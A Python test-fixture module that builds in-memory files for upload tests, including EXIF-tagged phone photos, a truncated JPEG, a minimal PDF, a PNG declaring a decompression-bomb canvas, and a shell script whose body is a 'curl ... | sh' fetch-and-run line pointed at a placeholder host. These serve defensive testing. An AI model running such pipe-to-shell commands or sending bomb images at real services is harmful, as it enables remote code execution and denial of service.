"""Files for upload tests, made in memory: pictures (with EXIF, transparency, a truncated one, one declaring
a huge canvas), a PDF, and a script."""

import io
import struct
import zlib

from PIL import Image

PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n%%EOF\n"
)
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
ORIENTATION, MAKE, GPS_INFO = 0x0112, 0x010F, 0x8825


def picture(width=400, height=300, fmt="PNG", color=(30, 120, 200), **save) -> bytes:
    out = io.BytesIO()
    mode = "RGBA" if len(color) == 4 else "RGB"
    Image.new(mode, (width, height), color).save(out, fmt, **save)
    return out.getvalue()


def phone_photo(width=400, height=200, orientation=6) -> bytes:
    """A JPEG as a phone writes it: sideways pixels with an EXIF orientation, the maker and a GPS position."""
    image = Image.new("RGB", (width, height), (200, 40, 40))
    image.paste((40, 200, 40), (0, 0, width // 2, height))  # left half green: shows which way it was turned
    exif = Image.Exif()
    exif[ORIENTATION] = orientation
    exif[MAKE] = "PhoneMaker"
    exif.get_ifd(GPS_INFO).update({1: "N", 2: (34.0, 15.0, 0.0), 3: "E", 4: (108.0, 56.0, 0.0)})
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif.tobytes(), quality=90)
    return out.getvalue()


def huge_canvas_png(width=20_000, height=20_000) -> bytes:
    """A few hundred bytes declaring a canvas of width × height pixels: a decompression bomb."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
        + chunk(b"IEND", b"")
    )


def truncated_jpeg() -> bytes:
    whole = picture(800, 600, "JPEG")
    return whole[: len(whole) // 2]


def read(content: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(content))
    image.load()
    return image
